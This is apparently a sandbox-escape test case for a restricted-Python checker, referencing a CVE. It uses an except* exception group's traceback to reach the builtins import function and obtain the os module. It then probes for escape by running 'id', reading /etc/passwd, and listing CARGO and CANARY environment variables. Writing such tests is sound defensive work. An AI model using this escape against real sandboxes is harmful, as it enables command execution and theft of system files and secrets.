# /// case
# technique = "exception-tricks"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2025-22153"
# ///
# What `except*` catches is a group of its own, with a traceback that leads to frames.
def fail():
    raise ExceptionGroup("group", [ValueError(1), ExceptionGroup("inner", [KeyError(2)])])

try:
    fail()
except* KeyError as caught:
    inner = caught.exceptions[0].exceptions[0]
    frame = inner.__traceback__ or caught.__traceback__
    found = frame.tb_frame.f_builtins["__import__"]("os")
except* ValueError:
    pass

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
